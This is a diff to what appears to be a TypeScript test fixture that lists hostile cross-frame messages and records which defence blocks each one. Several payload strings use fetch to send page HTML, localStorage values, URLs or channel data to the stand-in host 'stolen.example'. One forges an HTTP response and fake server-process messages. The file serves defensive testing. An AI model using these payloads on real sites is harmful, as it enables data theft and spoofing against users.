@@ -7,6 +7,13 @@ export interface HostileMessage {
   does: string;
   /** The title that stands in the window afterwards. */
   stands?: RegExp;
+  /** It is done while the visitor's Send is under way. */
+  meanwhile?: true;
+  /** Which wall holds this one, where it is played without it, and is noticed: what the visitor then sees, or what the ear then hears. */
+  without?:
+    | { wall: 'own wires'; sees: RegExp }
+    | { wall: 'the page’s own voice'; heard: RegExp }
+    | { wall: 'another origin'; heard: RegExp };
 }
 
 const SHAPES =
@@ -23,8 +30,16 @@ export const held: readonly HostileMessage[] = [
     does: "for (const one of all()) { const { port1, port2 } = new MessageChannel(); const more = new MessageChannel(); port1.onmessage = ({ data }) => fetch('http://stolen.example/' + JSON.stringify(data)); one.postMessage('onmessage = () => {}', '*', [port2, more.port2]); port1.postMessage({ kind: 'start' }) }",
   },
   {
+    // The page, the hall and a room: from then on for a while.
     name: 'speaks to every room before the page does',
-    does: "ours.location.replace('about:blank'); for (let blank = false; !blank; await new Promise((done) => setTimeout(done, 10))) try { blank = ours.document.URL === 'about:blank' } catch {} ours.location.replace('OURS#pass-through'); await new Promise((done) => { let n = 0; const again = setInterval(() => { for (const one of all()) one.postMessage(null, '*'); n += 1; if (n === 400) { clearInterval(again); done() } }, 5) })",
+    does: "ours.location.replace('about:blank'); for (let blank = false; !blank; await new Promise((done) => setTimeout(done, 10))) try { blank = ours.document.URL === 'about:blank' } catch {} ours.location.replace('OURS#pass-through'); const code = 'onmessage = ({ ports: [wire] }) => wire.postMessage(\"inside\")'; await new Promise((done) => { let left = 200; const again = setInterval(() => { if (all().length > 2) left -= 1; for (const one of all()) { const wire = new MessageChannel(), trouble = new MessageChannel(); wire.port1.onmessage = ({ data }) => fetch('http://stolen.example/' + data); one.postMessage(code, '*', [wire.port2, trouble.port2]) } if (left === 0) { clearInterval(again); done() } }, 5) })",
+    without: { wall: 'the page’s own voice', heard: /\/inside / },
+  },
+  {
+    name: 'answers in the place of Python',
+    does: `const said = [{ kind: 'sent', bytes: new TextEncoder().encode('HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nforged') }, ...[1, 2, 3, 4].map((id) => ({ kind: 'answered', id, end: 'closed', exited: null, unrecorded: null, log: {}, environ: null, lacks: [] }))]; for (let n = 0; n < 300; n += 1) { for (const one of all()) for (const part of said) one.postMessage(part, '*'); await new Promise((done) => setTimeout(done, 5)) }`,
+    meanwhile: true,
+    without: { wall: 'own wires', sees: /no server process says|makes no sense|forged/ },
   },
   {
     name: 'says 100,000 things',
@@ -53,6 +68,7 @@ export const held: readonly HostileMessage[] = [
   {
     name: 'reads what it can',
     does: "for (const one of all()) for (const read of [() => one.document.body.innerHTML, () => one.localStorage.getItem('onionskin'), () => one.location.href, () => one.harmed]) try { const got = read(); if (got) fetch('http://stolen.example/' + encodeURIComponent(got)) } catch {}",
+    without: { wall: 'another origin', heard: /5f2c/ },
   },
   {
     name: 'leads it to a shared project, again and again',
